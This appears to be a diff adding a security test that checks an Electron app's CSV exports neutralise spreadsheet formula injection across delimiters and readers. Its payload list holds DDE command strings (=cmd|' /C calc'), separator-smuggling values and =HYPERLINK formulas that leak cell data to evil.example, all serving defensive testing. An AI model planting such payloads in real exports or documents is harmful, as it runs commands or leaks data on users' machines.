@@ -1,0 +1,193 @@
+/**
+ * Formula injection through CSV exports, tried the way an attacker would: hostile cells from the
+ * service (synced over HTTP from the sample API into a real cache) exported with each delimiter,
+ * then each file read with each of the three separators — a spreadsheet set to another list
+ * separator than the file's. No cell of any reading may start a formula:
+ *  - csv-parse as an RFC 4180 reader (a record it cannot read with that separator is skipped, as a
+ *    strict reader refuses it);
+ *  - the way LibreOffice Calc's import splits text (test/security/calcCsvReader.ts): quotes honoured,
+ *    but a quoted field ends only at a quote followed by the separator.
+ * With the file's own separator, csv-parse reads back exactly the neutralised cells.
+ */
+import { closeSync, mkdtempSync, openSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type Database from 'better-sqlite3';
+import { parse } from 'csv-parse/sync';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { CsvOptions, ExportRequest } from '../../shared/contract.ts';
+import { openCache } from '../../electron/main/cache/db.ts';
+import { runSync } from '../../electron/main/sync/engine.ts';
+import { createHttpPageSource } from '../../electron/main/sync/httpSource.ts';
+import { SAMPLE_ACCESS_TOKEN, SAMPLE_REFRESH_TOKEN, startSampleApi, type SampleApi } from '../../electron/main/sampleApi/server.ts';
+import { CSV_DELIMITERS, CsvFileWriter, needsNeutralizing, type CsvValue } from '../../electron/main/export/csv.ts';
+import { runExport } from '../../electron/main/export/run.ts';
+import { readLikeCalc } from '../security/calcCsvReader.ts';
+
+const SEPARATORS = [',', ';', '\t'] as const;
+const DELIMITERS = ['comma', 'semicolon', 'tab'] as const;
+
+/** Cells an attacker would put into a contact or an order to run something in a spreadsheet. */
+const HOSTILE = [
+  `Acme;=cmd|' /C calc'!A0`,
+  `Acme,=cmd|' /C calc'!A0`,
+  `Acme\t=cmd|' /C calc'!A0`,
+  `Acme; =HYPERLINK("http://evil.example/?"&A1;"x")`,
+  '\t=1+1',
+  '\r=1+1',
+  '=x\t=1+1',
+  '   =1+1',
+  ' \u00a0\u3000+1+1',
+  '\u00a0\t-1+1',
+  '＝1+1',
+  '＋cmd|\' /C calc\'!A0',
+  '－1+1',
+  '＠SUM(A1)',
+  `";=cmd|' /C calc'!A0;`,
+  `";=cmd|' /C calc'!A0,`,
+  `  ;=cmd|' /C calc'!A0;`,
+  `,=cmd|' /C calc'!A0,`,
+  `\t;=1+1;`,
+  `x"";=1+1;`,
+  `"`,
+  `""`,
+  `a"\r\n=1+1`,
+  'first\r\n=1+1;=2+2',
+  `=HYPERLINK("http://evil.example/?"&A1,"x")`,
+  '\0=1+1',
+];
+
+/** True when a spreadsheet would take `cell` as a formula (numbers are numbers). */
+function startsFormula(cell: string): boolean {
+  if (/^\s*[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?\s*$/.test(cell)) return false;
+  return /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell) || /^[\t\r\0]/.test(cell);
+}
+
+/** Every cell of every reading of `text` (csv-parse and Calc's way, each separator) that starts a formula. */
+function formulaCells(text: string, bom: boolean): string[] {
+  const found: string[] = [];
+  for (const sep of SEPARATORS) {
+    const strict = parse(text, { delimiter: sep, bom, record_delimiter: ['\r\n', '\n', '\r'], relax_column_count: true, skip_records_with_error: true }) as string[][];
+    for (const record of strict) for (const cell of record) if (startsFormula(cell)) found.push(`csv-parse ${JSON.stringify(sep)}: ${JSON.stringify(cell)}`);
+    for (const record of readLikeCalc(text, sep)) for (const cell of record) if (startsFormula(cell)) found.push(`calc ${JSON.stringify(sep)}: ${JSON.stringify(cell)}`);
+  }
+  return found;
+}
+
+let dir: string;
+let db: Database.Database;
+let api: SampleApi;
+const hostileContacts: string[] = [];
+
+beforeAll(async () => {
+  dir = mkdtempSync(join(tmpdir(), 'ld-csv-injection-'));
+  api = await startSampleApi({ contacts: 80, orders: 30, seed: 5 });
+  const ids = [...api.dataset.contactIds()];
+  HOSTILE.forEach((payload, i) => {
+    const id = ids[i * 3] as string;
+    hostileContacts.push(id);
+    // The payload in a middle column, at the end, in labels, and next to ordinary text.
+    api.dataset.updateContact(id, {
+      firstName: payload,
+      companyName: payload,
+      city: `Springfield${payload}`,
+      email: payload,
+      ContactLabels: [{ id: String(990000 + i), title: payload }],
+    });
+  });
+  const orderIds = [...api.dataset.orderIds()];
+  HOSTILE.slice(0, orderIds.length).forEach((payload, i) => {
+    const order = [...api.dataset.orders()].find((o) => o.id === orderIds[i])!;
+    api.dataset.updateOrder(order.id, { campaign: { ...order.campaign, name: payload, description: payload }, meta: { note: payload } });
+  });
+  db = openCache(join(dir, 'cache.sqlite'));
+  const runs = await runSync(db, createHttpPageSource({ baseUrl: api.baseUrl, tokens: { accessToken: SAMPLE_ACCESS_TOKEN, refreshToken: SAMPLE_REFRESH_TOKEN } }), {
+    resources: ['contacts', 'orders'],
+    pageSize: 100,
+  });
+  expect(runs.every((r) => r.outcome === 'succeeded')).toBe(true);
+});
+
+afterAll(async () => {
+  db?.close();
+  await api?.close();
+  rmSync(dir, { recursive: true, force: true });
+});
+
+async function exportText(name: string, request: ExportRequest): Promise<string> {
+  const path = join(dir, name);
+  await runExport(db, request, path, {});
+  return readFileSync(path, 'utf8');
+}
+
+describe('no cell of any reading of an export starts a formula', () => {
+  for (const delimiter of DELIMITERS) {
+    for (const kind of ['contacts', 'orders', 'recipients'] as const) {
+      it(`${kind}, written with ${delimiter}, read with , ; and TAB`, async () => {
+        const options: CsvOptions = { delimiter, bom: kind === 'orders', neutralizeFormulas: true };
+        const text = await exportText(`${kind}-${delimiter}.csv`, { kind, query: null, columns: null, options });
+        expect(formulaCells(text, options.bom)).toEqual([]);
+        // With its own separator the file reads back whole: the hostile cells are there, neutralised.
+        const own = parse(text, { delimiter: CSV_DELIMITERS[delimiter], bom: options.bom, record_delimiter: '\r\n' }) as string[][];
+        if (kind === 'contacts') {
+          const byId = new Map(own.map((r) => [r[0], r]));
+          HOSTILE.forEach((payload, i) => {
+            const row = byId.get(hostileContacts[i]);
+            expect(row?.[1], JSON.stringify(payload)).toBe(needsNeutralizing(payload) ? `'${payload}` : payload);
+            expect(row?.[7], JSON.stringify(payload)).toBe(`Springfield${payload}`);
+          });
+        }
+      });
+    }
+
+    it(`columns that start a record with a number or an empty cell (${delimiter})`, async () => {
+      const options: CsvOptions = { delimiter, bom: false, neutralizeFormulas: true };
+      const orders = await exportText(`orders-status-first-${delimiter}.csv`, { kind: 'orders', query: null, columns: ['status', 'useType', 'campaignName', 'recipients'], options });
+      const contacts = await exportText(`contacts-empty-first-${delimiter}.csv`, { kind: 'contacts', query: null, columns: ['address2', 'firstName', 'isVerified', 'city'], options });
+      expect(formulaCells(orders, false)).toEqual([]);
+      expect(formulaCells(contacts, false)).toEqual([]);
+    });
+  }
+
+  it('holds for any cells, written by the file writer, not only for the sample data', () => {
+    const alphabet = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '"', ',', ';', ' ', '\u00a0', '\u3000', '＝', '＋', '－', '＠', "'", 'a', '1'];
+    let seed = 7;
+    const random = (n: number) => (seed = (seed * 1103515245 + 12345) % 2147483648) % n;
+    for (const delimiter of DELIMITERS) {
+      const path = join(dir, `random-${delimiter}.csv`);
+      const rows: CsvValue[][] = [];
+      for (let r = 0; r < 400; r++) {
+        const row: CsvValue[] = [];
+        for (let c = 0; c < 5; c++) {
+          const kind = random(10);
+          if (kind === 0) row.push(null);
+          else if (kind === 1) row.push(random(1000));
+          else {
+            let s = '';
+            for (let k = random(8); k > 0; k--) s += alphabet[random(alphabet.length)];
+            row.push(s);
+          }
+        }
+        rows.push(row);
+      }
+      const fd = openSync(path, 'w');
+      const writer = new CsvFileWriter(fd, { delimiter, bom: false, neutralizeFormulas: true }, 256);
+      for (const row of rows) writer.writeRow([...row]);
+      writer.flush();
+      closeSync(fd);
+      expect(formulaCells(readFileSync(path, 'utf8'), false), delimiter).toEqual([]);
+    }
+  });
+});
+
+describe('the Calc-style reader', () => {
+  it('reads RFC 4180 text with its own separator as csv-parse does', () => {
+    const text = '"a","b ""q"", c","x\r\ny"\r\nplain,2,"3"\r\n';
+    expect(readLikeCalc(text, ',')).toEqual([
+      ['a', 'b "q", c', 'x\ny'],
+      ['plain', '2', '3'],
+    ]);
+    // and splits a quoted cell when it is read with another separator and the quotes pair up wrongly
+    expect(readLikeCalc('"a",""";=1+1;"\r\n', ';')).toEqual([['a","', '=1+1', '']]);
+  });
+});
